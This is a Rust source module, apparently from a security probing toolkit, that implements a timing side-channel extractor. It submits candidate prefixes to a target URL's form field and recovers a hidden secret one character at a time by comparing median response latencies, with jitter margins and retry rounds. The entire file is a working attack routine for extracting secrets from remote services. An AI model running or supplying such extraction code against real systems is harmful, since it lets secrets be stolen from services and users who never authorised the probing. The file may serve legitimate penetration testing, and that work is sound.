//! Timing side-channel extractor.
//!
//! Recovers a secret the device holds one character at a time, exploiting an
//! oracle whose response latency grows with the length of the correctly
//! matched prefix. A single latency sample per candidate is hostage to
//! network jitter, so every candidate is sampled several times and the
//! per-candidate medians are compared; a round is accepted only when the
//! winning median clears the runner-up by a configurable margin, otherwise
//! the round is retried.
//!
//! Candidates are queried strictly sequentially. Issuing them concurrently
//! would perturb the very latencies being compared.

use std::time::Duration;

use thiserror::Error;
use url::Url;

use crate::probes::core::{Charset, Oracle, OracleError};

/// Tuning knobs for one extraction run.
#[derive(Debug, Clone)]
pub struct ExtractorConfig {
    /// Latency samples taken per candidate before aggregation.
    pub samples_per_candidate: usize,
    /// Minimum lead the winning median must hold over the runner-up for the
    /// round to be accepted.
    pub noise_margin: Duration,
    /// Upper bound on rounds, accepted or inconclusive, before giving up.
    /// Caps total oracle traffic at `max_rounds * |charset| * samples`.
    pub max_rounds: usize,
}

impl Default for ExtractorConfig {
    fn default() -> Self {
        Self {
            samples_per_candidate: 3,
            noise_margin: Duration::from_millis(25),
            max_rounds: 48,
        }
    }
}

#[derive(Debug, Error)]
pub enum ExtractError {
    /// The round bound was exhausted before the sentinel was selected.
    #[error("timing signal lost after {rounds} rounds (recovered prefix: {prefix:?})")]
    SignalLost { rounds: usize, prefix: String },
    #[error("oracle error: {0}")]
    Oracle(#[from] OracleError),
}

enum RoundResult {
    Accepted(char),
    Inconclusive { margin: Duration },
}

/// Character-by-character secret recovery over a timing oracle.
pub struct TimingExtractor<'a> {
    oracle: &'a dyn Oracle,
    config: ExtractorConfig,
}

impl<'a> TimingExtractor<'a> {
    pub fn new(oracle: &'a dyn Oracle) -> Self {
        Self {
            oracle,
            config: ExtractorConfig::default(),
        }
    }

    pub fn with_config(mut self, config: ExtractorConfig) -> Self {
        self.config = config;
        self
    }

    /// Recover the secret behind `target`, submitting candidate prefixes
    /// under `field` until the sentinel wins a round.
    ///
    /// The returned secret includes the sentinel character. The prefix grows
    /// by exactly one character per accepted round and never shrinks.
    pub async fn extract(
        &self,
        target: &Url,
        field: &str,
        charset: &Charset,
    ) -> Result<String, ExtractError> {
        let mut prefix = String::new();

        for round in 1..=self.config.max_rounds {
            match self.run_round(target, field, charset, &prefix).await? {
                RoundResult::Accepted(winner) => {
                    prefix.push(winner);
                    log::info!("round {round}: accepted '{winner}', prefix now {prefix:?}");
                    if winner == charset.sentinel() {
                        return Ok(prefix);
                    }
                }
                RoundResult::Inconclusive { margin } => {
                    log::warn!(
                        "round {round}: inconclusive, winning margin {margin:?} \
                         below {:?}",
                        self.config.noise_margin,
                    );
                }
            }
        }

        Err(ExtractError::SignalLost {
            rounds: self.config.max_rounds,
            prefix,
        })
    }

    /// One full pass over the charset. Ties go to the earliest candidate in
    /// charset order, so identical inputs always reproduce the same pick.
    async fn run_round(
        &self,
        target: &Url,
        field: &str,
        charset: &Charset,
        prefix: &str,
    ) -> Result<RoundResult, ExtractError> {
        let mut medians = Vec::with_capacity(charset.len());
        for candidate in charset.iter() {
            let value = format!("{prefix}{candidate}");
            let elapsed = self.sample_candidate(target, field, &value).await?;
            log::debug!("candidate {value:?}: median latency {elapsed:?}");
            medians.push((candidate, elapsed));
        }

        // Charset::new rejects empty alphabets, so medians is never empty.
        let Some(&(first_char, first_elapsed)) = medians.first() else {
            return Ok(RoundResult::Inconclusive {
                margin: Duration::ZERO,
            });
        };

        let mut winner = first_char;
        let mut winner_elapsed = first_elapsed;
        let mut runner_up = Duration::ZERO;
        for (candidate, elapsed) in medians.into_iter().skip(1) {
            if elapsed > winner_elapsed {
                runner_up = winner_elapsed;
                winner = candidate;
                winner_elapsed = elapsed;
            } else if elapsed > runner_up {
                runner_up = elapsed;
            }
        }

        let margin = winner_elapsed.saturating_sub(runner_up);
        if margin < self.config.noise_margin {
            return Ok(RoundResult::Inconclusive { margin });
        }
        Ok(RoundResult::Accepted(winner))
    }

    /// Median of `samples_per_candidate` sequential latency samples.
    async fn sample_candidate(
        &self,
        target: &Url,
        field: &str,
        value: &str,
    ) -> Result<Duration, ExtractError> {
        let samples = self.config.samples_per_candidate.max(1);
        let mut elapsed = Vec::with_capacity(samples);
        for _ in 0..samples {
            let observation = self.oracle.submit(target, field, value).await?;
            elapsed.push(observation.elapsed);
        }
        elapsed.sort();
        Ok(elapsed[(elapsed.len() - 1) / 2])
    }
}
